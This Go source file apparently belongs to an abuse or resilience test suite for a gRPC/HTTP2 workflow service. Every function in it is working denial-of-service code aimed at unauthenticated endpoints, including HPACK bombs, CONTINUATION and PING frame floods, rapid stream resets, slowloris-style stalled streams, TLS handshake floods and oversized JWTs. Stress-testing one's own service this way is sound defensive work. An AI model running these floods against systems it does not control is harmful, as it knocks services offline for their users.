package abuse

import (
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	start  = workflowService + "StartWorkflowExecution"
	poll   = workflowService + "PollWorkflowTaskQueue"
	health = "/grpc.health.v1.Health/"
)

// hpackBomb opens streams whose headers name one long header again and again, a byte each time.
func hpackBomb(address func(target) string, method string, connections, streams int) func(target) error {
	return func(t target) error {
		value := base64.RawStdEncoding.EncodeToString(make([]byte, 2850))
		return t.flood(connections, address(t), 65535, func(r *raw) error {
			r.mu.Lock()
			for range streams {
				r.block.Reset()
				for i, h := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", method}, {":authority", "x"}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
					_ = r.enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1], Sensitive: i > 6})
				}
				for range 260 {
					_ = r.enc.WriteField(hpack.HeaderField{Name: "x-bin", Value: value})
				}
				if err := r.writeBlock(r.next, r.block.Bytes()); err != nil {
					break
				}
				r.next += 2
			}
			r.mu.Unlock()
			t.sleep(3 * time.Second)
			return nil
		})
	}
}

func toToken(t target) string { return t.Token }
func toOpen(t target) string  { return t.Open }

// manyHeaders stays just below the limit of headers on many streams.
func manyHeaders(address func(target) string, method string) func(target) error {
	return func(t target) error {
		value := filler(3000)
		return t.flood(4, address(t), 65535, func(r *raw) error {
			var more []string
			for i := range 19 {
				more = append(more, fmt.Sprint("x-", i), value)
			}
			for range 1000 {
				if _, err := r.open(method, "", more...); err != nil {
					return err
				}
			}
			t.sleep(3 * time.Second)
			return nil
		})
	}
}

// withTime makes calls that are refused, whose deadlines are centuries away. They may have a header.
func withTime(address func(target) string, method string, header ...string) func(target) error {
	return func(t target) error {
		more := []string{"grpc-timeout", "99999999H"}
		for _, h := range header {
			more = append(more, "x-more", h)
		}
		return t.flood(4, address(t), 65535, func(r *raw) error {
			for {
				if _, err := r.open(method, "", more...); err != nil || t.over() {
					return err
				}
			}
		})
	}
}

// endTogether makes calls that are refused, and that all have time until the shape is over.
func endTogether(address func(target) string, method string) func(target) error {
	return func(t target) error {
		end, _ := t.ctx.Deadline()
		return t.flood(20, address(t), 65535, func(r *raw) error {
			for !t.over() {
				if _, err := r.open(method, "", "grpc-timeout", fmt.Sprint(max(time.Until(end).Milliseconds(), 1), "m")); err != nil {
					return err
				}
			}
			return nil
		})
	}
}

// unfinished opens streams and sends so many bytes of a message that announces more.
func unfinished(address func(target) string, method string, connections, streams, announced, sent int) func(target) error {
	return func(t target) error {
		return t.flood(connections, address(t), 65535, func(r *raw) error {
			for range streams {
				id, err := r.open(method, "")
				if err != nil {
					return err
				}
				if announced > 0 {
					_ = r.data(id, false, append(prefix(announced), make([]byte, sent)...))
				}
			}
			for !t.over() {
				select {
				case <-r.closed:
					return io.EOF
				case <-time.After(100 * time.Millisecond):
				}
			}
			return nil
		})
	}
}

// silent opens connections and says nothing, or only the preface.
func silent(address func(target) string, connections int, preface bool) func(target) error {
	return func(t target) error {
		var open []io.Closer
		for i := 0; i < connections && !t.over(); i++ {
			if preface {
				if r, err := dialRaw(address(t), 65535); err == nil {
					open = append(open, r.conn)
				}
			} else if c, err := net.DialTimeout("tcp", address(t), time.Second); err == nil {
				open = append(open, c)
			}
		}
		for !t.over() {
			t.sleep(time.Second)
		}
		for _, c := range open {
			_ = c.Close()
		}
		return nil
	}
}

// frames writes one kind of frame as fast as the connection takes it.
func frames(write func(*http2.Framer, uint32) error) func(target) error {
	return func(t target) error {
		return t.flood(4, t.Token, 65535, func(r *raw) error {
			for i := uint32(0); !t.over(); i++ {
				r.mu.Lock()
				err := write(r.framer, i)
				r.mu.Unlock()
				if err != nil {
					return err
				}
			}
			return nil
		})
	}
}

func init() {
	add(beforeAuth, "headers that name one long header, no token", hpackBomb(toToken, poll, 6, 1000))
	add(beforeAuth, "headers that name one long header, anonymous", hpackBomb(toOpen, poll, 6, 1000))
	add(beforeAuth, "headers that name one long header, health", hpackBomb(toToken, health+"Check", 6, 1000))
	add(beforeAuth, "headers just below the limit, no token", manyHeaders(toToken, start))
	add(beforeAuth, "headers just below the limit, anonymous", manyHeaders(toOpen, poll))
	add(beforeAuth, "health checks without an end", func(t target) error {
		return t.flood(100, t.Token, 65535, func(r *raw) error {
			id, err := r.open(health+"Check", "")
			if err != nil {
				return err
			}
			const size = 30_000_000
			_ = r.data(id, false, prefix(size))
			err = r.stream(t.ctx, id, size-1)
			t.sleep(time.Second)
			return err
		})
	})
	add(beforeAuth, "a length and nothing else, no token", unfinished(toToken, start, 1, 1, 30_146_560, 0))
	add(beforeAuth, "a length and nothing else, anonymous", unfinished(toOpen, start, 1, 8, 8<<20, 0))
	add(beforeAuth, "small lengths and nothing else", unfinished(toOpen, start, 2, 1000, 60_000, 100))
	add(beforeAuth, "headers and then silence, no token", unfinished(toToken, start, 1, 1000, 0, 0))
	add(beforeAuth, "headers and then silence, anonymous", unfinished(toOpen, start, 1, 1000, 0, 0))
	add(beforeAuth, "polls without a message", unfinished(toOpen, poll, 2, 9000, 0, 0))
	add(beforeAuth, "connections that say nothing", silent(toToken, 2000, false))
	add(beforeAuth, "connections with a preface alone", silent(toToken, 2000, true))
	add(beforeAuth, "connections that say nothing, with TLS", silent(func(t target) string { return t.MTLS }, 2000, false))
	add(beforeAuth, "made-up services with long names", func(t target) error {
		return t.flood(1, t.Token, 65535, func(r *raw) error {
			for i := range 2000 {
				if _, err := r.open("/"+strings.Repeat("y", 3900)+".S/M", ""); err != nil {
					return err
				}
				if i%200 == 199 {
					t.sleep(50 * time.Millisecond)
				}
			}
			return nil
		})
	})
	add(beforeAuth, "TLS handshakes", func(t target) error { return handshakes(t, tls.Certificate{}) })
	add(beforeAuth, "TLS handshakes with a large foreign certificate", func(t target) error { return handshakes(t, t.certificate()) })
	add(beforeAuth, "a flood of CONTINUATION frames", func(t target) error {
		return t.flood(4, t.Token, 65535, func(r *raw) error {
			r.mu.Lock()
			defer r.mu.Unlock()
			r.block.Reset()
			_ = r.enc.WriteField(hpack.HeaderField{Name: "x", Value: filler(8000), Sensitive: true})
			block := r.block.Bytes()
			if err := r.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block}); err != nil {
				return err
			}
			for !t.over() {
				if err := r.framer.WriteContinuation(1, false, block); err != nil {
					return err
				}
			}
			return nil
		})
	})
	add(beforeAuth, "a flood of PING frames", frames(func(f *http2.Framer, i uint32) error { return f.WritePing(false, [8]byte{byte(i)}) }))
	add(beforeAuth, "a flood of SETTINGS frames", frames(func(f *http2.Framer, i uint32) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + i%2})
	}))
	add(beforeAuth, "a flood of PRIORITY and WINDOW_UPDATE frames", frames(func(f *http2.Framer, i uint32) error {
		if i%2 == 0 {
			return f.WriteWindowUpdate(0, 1)
		}
		return f.WritePriority(1+2*(i%1000), http2.PriorityParam{Weight: 1})
	}))
	add(beforeAuth, "streams that are reset at once", func(t target) error {
		return t.flood(4, t.Open, 65535, func(r *raw) error {
			for !t.over() {
				id, err := r.open(start, "")
				if err != nil {
					return err
				}
				r.mu.Lock()
				err = r.framer.WriteRSTStream(id, http2.ErrCodeCancel)
				r.mu.Unlock()
				if err != nil {
					return err
				}
			}
			return nil
		})
	})
	add(beforeAuth, "answers to the anonymous that nobody reads", func(t target) error {
		return t.flood(10, t.Token, 0, func(r *raw) error {
			for range 5000 {
				if _, err := r.open(start, ""); err != nil {
					return err
				}
			}
			t.sleep(3 * time.Second)
			return nil
		})
	})
	add(beforeAuth, "refused calls whose callers have much time, no token", withTime(toToken, start))
	add(beforeAuth, "refused calls whose callers have much time, anonymous", withTime(toOpen, poll, strings.Repeat("h", 40_000)))
	add(beforeAuth, "refused calls whose time ends at the same moment", endTogether(toToken, start))
	add(beforeAuth, "large JWTs", func(t target) error {
		part := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"RS256","kid":"k","x":"` + filler(30_000) + `"}`))
		return t.repeatHeader(t.JWT, part+"."+part+".c2ln")
	})
	add(beforeAuth, "JWTs of unknown keys", func(t target) error {
		var wg sync.WaitGroup
		for i := range 4 {
			wg.Go(func() {
				c := t.dial(t.JWT)
				defer c.Close()
				for n := 0; !t.over(); n++ {
					head := base64.RawURLEncoding.EncodeToString(fmt.Appendf(nil, `{"alg":"RS256","kid":"made-up-%d-%d"}`, i, n))
					t.Secret = head + ".e30.c2ln"
					_, _ = t.call(c, "GetSystemInfo", nil, 5*time.Second)
				}
			})
		}
		wg.Wait()
		return nil
	})
}

// repeatHeader calls with that token from four callers at once.
func (t target) repeatHeader(address, token string) error {
	t.Secret = token
	return t.repeat(4, address, "GetSystemInfo", nil)
}

// handshakes begins TLS again and again.
func handshakes(t target, certificate tls.Certificate) error {
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			for !t.over() {
				if c, err := dialTLS(t.MTLS, certificate); err == nil {
					_, _ = c.Read(make([]byte, 64))
					_ = c.Close()
				}
			}
		})
	}
	wg.Wait()
	return nil
}
